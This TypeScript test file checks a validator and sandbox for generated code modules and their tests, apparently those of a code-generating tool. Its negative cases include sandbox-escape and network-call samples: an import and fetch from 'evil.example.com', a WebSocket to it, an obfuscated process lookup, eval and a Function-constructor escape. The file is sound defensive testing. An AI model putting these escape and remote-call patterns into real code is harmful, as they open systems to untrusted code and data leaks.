import { afterAll, describe, expect, test } from 'vitest';
import { createCandidateRunner } from '../../../adapters/candidate-runner/candidate-runner.ts';
import { createCodeTools } from '../../../adapters/code-tools/code-tools.ts';
import { readModule } from '../../../src/factory/model/module-syntax.ts';
import { isPlain } from '../../../src/factory/model/plain-code.ts';
import { readCode, type Draft } from '../../../src/factory/model/read-code.ts';
import { assemble, readTests, type OwnTests } from '../../../src/factory/model/read-tests.ts';
import { vectorsOf } from '../../../src/factory/model/vectors.ts';
import { readExamples } from '../../../src/factory/read-examples.ts';
import { library } from '../library.ts';
import { CODE, TESTS } from './answers.ts';

const tools = createCodeTools();
afterAll(() => tools.close());

const { examples } = readExamples('zipWords("abc", "12") -> "a1b2c"');
const OWN: OwnTests = { examples, vectors: undefined };

async function draftOf(code: string): Promise<Draft> {
  const read = await readCode(code, undefined, tools);
  if (!read.ok) throw new Error(read.problem);
  return read.draft;
}

describe('a module', () => {
  test('is known by its one function; of its comments nobody hears', async () => {
    const draft = await draftOf(`/** Top. */\nexport interface Pair {\n  /** Left. */\n  left: string;\n}\n${CODE.replace('first: string', 'first: Pair["left"]')}`);
    expect(draft.entryPoint).toBe('zipWords');
    expect(draft.signature).toBe('export interface Pair {\n    left: string;\n}\nexport declare function zipWords(first: Pair["left"], second: string): string;');
  });

  test.each([
    ['export const f = (a: number): number => a;', 'f'],
    ["import { createHash } from 'node:crypto';\nexport async function digest(text: string): Promise<string> {\n  return createHash('sha256').update(text).digest('hex');\n}", 'digest'],
    ['function twice(a: number): number {\n  return a * 2;\n}\nexport { twice };\nexport type { Twice };\ntype Twice = typeof twice;', 'twice'],
  ])('may be %j', async (code, name) => {
    expect((await draftOf(code)).entryPoint).toBe(name);
  });

  test.each([
    ['', 'exports 0 values'],
    ['export default function () {}', 'needs a name'],
    ['export default function f() {}', 'needs a name'],
    ["export * from 'node:fs';", 'needs a name'],
    ['const a = () => 1;\nexport { a as "x y" };', 'needs a name'],
    ['export const { a } = { a: () => 1 };', 'needs a name'],
    ['export function delete_() {}\nexport class B {}', 'exports 2 values'],
    ['export class Box {}', 'is no function'],
    ['export const LIMIT = 5;', 'is no function'],
    ['export function __proto__() {}', 'needs a name'],
    ['export function then(): number {\n  return 1;\n}', 'needs a name'],
    ["import x from 'https://evil.example.com/x.ts';\nexport function f(): unknown {\n  return x;\n}", 'is not part of Node'],
    ["import { x } from './other.ts';\nexport function f(): unknown {\n  return x;\n}", 'is not part of Node'],
    ["import { expect } from 'vitest';\nexport function f(): unknown {\n  return expect;\n}", 'belongs to tests'],
    ['export async function f(name: string): Promise<unknown> {\n  return import(name);\n}', 'only known at run time'],
    ['export function f(): number {\n  /* v8 ignore next */\n  return 1;\n}', 'coverage'],
    ['export enum E { A }\nexport function f() {}', 'exports 2 values'],
    ['export function f() {\n  return `', 'does not parse'],
    ['export function f() {}\nexport function f() {}', 'does not parse'],
  ])('may not be %j', async (code, problem) => {
    expect(await readCode(code, undefined, tools)).toMatchObject({ ok: false, problem: expect.stringContaining(problem) });
  });
});

describe('tests', () => {
  test('stand behind the person’s examples, without imports of their own', async () => {
    const draft = await draftOf(CODE);
    const imports = "import { describe, expect, it } from 'vitest';\nimport fc from 'fast-check';\nimport {\n  zipWords,\n} from './zipWords';\n\n";
    for (const source of [TESTS, imports + TESTS]) {
      const read = await readTests(source, draft, OWN, tools);
      expect(read).toEqual({ ok: true, body: TESTS });
    }
    const { tests } = assemble(draft, OWN, TESTS);
    expect(tests.split('\n').slice(0, 9)).toEqual([
      "import fc from 'fast-check';", "import { describe, expect, it } from 'vitest';", "import { zipWords } from './zipWords.ts';", '',
      "describe('examples from the request', () => {", '  it("example from the request: zipWords(\\"abc\\", \\"12\\") -> \\"a1b2c\\"", async () => {', '    expect(await zipWords("abc", "12")).toEqual("a1b2c");', '  });', '});',
    ]);
  });

  const test1 = (body: string): string => `it('x', () => {\n  ${body}\n});`;
  test.each([
    ['', 'no test'],
    ['const a = 1;', 'no test'],
    [test1(''), 'asserts nothing'],
    [test1('expect(1).toBe(1);'), 'always equal'],
    [test1('expect(zipWords("a", "b")).toMatchSnapshot();'), 'snapshot'],
    ["it.skip('x', () => {\n  expect(zipWords('a', 'b')).toBe('ab');\n});", 'skipped'],
    ["describe.only('x', () => {\n  it('y', () => {\n    expect(zipWords('a', 'b')).toBe('ab');\n  });\n});", 'switches the other tests off'],
    [`vi.mock('./zipWords.ts', () => ({ zipWords: () => 'a1b2c' }));\n${test1("expect(zipWords('a', 'b')).toBe('ab');")}`, 'replace'],
    [`const zipWords = () => 'a1b2c';\n${test1("expect(zipWords()).toBe('a1b2c');")}`, 'imported already'],
    [`function expect() {}\n${test1("expect(zipWords('a', 'b')).toBe('ab');")}`, 'imported already'],
    [`import { it as describe } from 'vitest';\n${test1('')}`, 'import'],
    [`import { readFileSync } from 'node:fs';\n${test1("expect(readFileSync('x')).toBe('y');")}`, 'import'],
    [`import 'vitest';\n${test1("expect(zipWords('a', 'b')).toBe('ab');")}`, 'import'],
    [test1("expect(zipWords('a', 'b')).toBe(import.meta.url);"), 'import'],
    ["it('x', async () => {\n  const { readFileSync } = await import('node:fs');\n  expect(readFileSync('x')).toBe(zipWords('a', 'b'));\n});", 'import'],
    ['it(', 'do not parse'],
  ])('%j are not taken', async (source, problem) => {
    expect(await readTests(source, await draftOf(CODE), OWN, tools)).toMatchObject({ ok: false, problem: expect.stringContaining(problem) });
  });

  test('a line in a text that looks like an import stays', async () => {
    const source = "it('reads code', () => {\n  expect(zipWords(`\nimport { a } from 'b';\n`, '')).toContain('import');\n});";
    expect(await readTests(source, await draftOf(CODE), OWN, tools)).toMatchObject({ ok: false, problem: expect.stringContaining('told from the rest') });
  });
});

describe('what a template gives', () => {
  test('becomes tests with its decimals, where its parameters are as stated', () => {
    const slugify = library.get('slugify')!;
    expect(vectorsOf(slugify, 'toSlug', new Map()).map(({ text }) => text)).toContain('toSlug("  Hello,  World  ") -> "hello-world"');
    expect(vectorsOf(slugify, 'toSlug', new Map([['SEPARATOR', '_']]))).toEqual([]);
    const rounded = library.templates.flatMap((template) => vectorsOf(template, template.entryPoint, new Map())).filter(({ result }) => result.kind === 'number' && result.text.includes('.'));
    expect(rounded.length).toBeGreaterThan(5);
  });

  test('holds for the template’s own code, for all of them', async () => {
    const runner = createCandidateRunner({ totalMs: 60_000 });
    const { judgeExamples } = await import('../../../src/factory/try-examples.ts');
    const bad: string[] = [];
    for (const template of library.templates) {
      const vectors = vectorsOf(template, template.entryPoint, new Map());
      const [outcomes = []] = await runner.run([{ id: template.id, code: template.code.source, entryPoint: template.entryPoint }], vectors.map(({ args }) => args));
      if (judgeExamples(vectors, outcomes).kind === 'failed') bad.push(template.id);
    }
    await runner.close();
    expect(bad).toEqual([]);
  });
});

describe('code that a process without rights may call', () => {
  const plain = (js: string): boolean => isPlain(readModule(js)!);

  test.each([
    'export const f = (a) => a.map((x) => x * 2).toSorted();',
    'export const f = (text) => new Intl.Collator("en").compare(text, new URL(text).href);',
    'export const f = (o) => o.process + o["fetch"];',
    'export const f = async (ms) => new Promise((resolve) => setTimeout(resolve, ms));',
  ])('computes: %s', (js) => expect(plain(js)).toBe(true));

  test.each([
    'export const f = () => process.exit(1);',
    'export const f = () => globalThis["pro" + "cess"];',
    'export const f = () => fetch("https://evil.example.com");',
    'export const f = () => new Function("return 1")();',
    'export const f = () => eval("1");',
    'export const f = () => import("node:fs");',
    'export const f = () => import.meta.url;',
    'import fs from "node:fs";\nexport const f = () => fs;',
    'export const f = (process) => process;',
    'export const f = () => new WebSocket("wss://evil.example.com");',
    'export const f = () => ({ fetch });',
    'export const f = () => console.log(1);',
  ])('and reaches nothing: %s', (js) => expect(plain(js)).toBe(false));

  test('makes no code from texts, and leaves nothing behind for whoever is tried next', async () => {
    const runner = createCandidateRunner();
    const escape = { id: 'a', code: "export const f = (): unknown => (() => 0).constructor('return process.version')();", entryPoint: 'f', isForeign: true };
    const [[outcome]] = (await runner.run([escape], [[]])) as [[unknown]];
    expect(outcome).toMatchObject({ kind: 'thrown', message: expect.stringContaining('EvalError') });
    const spoil = { id: 'b', code: 'export const f = (): number => {\n  Object.defineProperty(Math, "max", { value: () => 7 });\n  return Math.max(1, 2);\n};', entryPoint: 'f', isForeign: true };
    const after = { id: 'c', code: 'export const f = (): number => Math.max(1, 2);', entryPoint: 'f' };
    expect(await runner.run([spoil], [[]])).toMatchObject([[{ kind: 'value', value: { value: 7 } }]]);
    expect(await runner.run([after], [[]])).toMatchObject([[{ kind: 'value', value: { value: 2 } }]]);
    await runner.close();
  });
});
